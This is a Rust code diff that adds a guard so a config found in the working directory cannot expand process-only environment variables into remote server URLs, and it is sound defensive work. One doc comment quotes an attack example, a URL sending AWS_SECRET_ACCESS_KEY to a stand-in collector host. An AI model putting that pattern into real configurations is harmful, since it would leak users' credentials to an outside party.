@@ -18,6 +18,9 @@ pub(crate) struct Variables<'p> {
     process: &'p BTreeMap<String, String>,
     /// Variables from `.env` files, already merged by precedence.
     dotenv: BTreeMap<String, String>,
+    /// The config came with the working directory (discovery): a variable only the process
+    /// environment sets reaches a remote server's URL only when the entry declares it.
+    guards_remote_urls: bool,
 }
 
 impl<'p> Variables<'p> {
@@ -39,7 +42,30 @@ impl<'p> Variables<'p> {
         for file in env_files {
             read_into(&mut dotenv, &cwd.join(file), true)?;
         }
-        Ok(Self { process, dotenv })
+        Ok(Self {
+            process,
+            dotenv,
+            guards_remote_urls: false,
+        })
+    }
+
+    /// The same variables for a config that came with the working directory: see
+    /// [`Variables::is_guarded`].
+    pub(crate) fn guarding_remote_urls(self) -> Self {
+        Self {
+            guards_remote_urls: true,
+            ..self
+        }
+    }
+
+    /// True when `name` may not reach a remote URL undeclared: the config came with the
+    /// directory and only the process environment sets `name` (no `.env`, `--env-file` or
+    /// `~/.claude/.env` vouches for it). A checkout must not be able to write
+    /// `"url": "https://collector/?k=${AWS_SECRET_ACCESS_KEY}"`.
+    pub(crate) fn is_guarded(&self, name: &str) -> bool {
+        self.guards_remote_urls
+            && self.process.contains_key(name)
+            && !self.dotenv.contains_key(name)
     }
 
     /// Variables from explicit layers, for tests that need no files.
@@ -48,7 +74,11 @@ impl<'p> Variables<'p> {
         process: &'p BTreeMap<String, String>,
         dotenv: BTreeMap<String, String>,
     ) -> Self {
-        Self { process, dotenv }
+        Self {
+            process,
+            dotenv,
+            guards_remote_urls: false,
+        }
     }
 
     /// The value of `name`, or `None` when no source sets it.
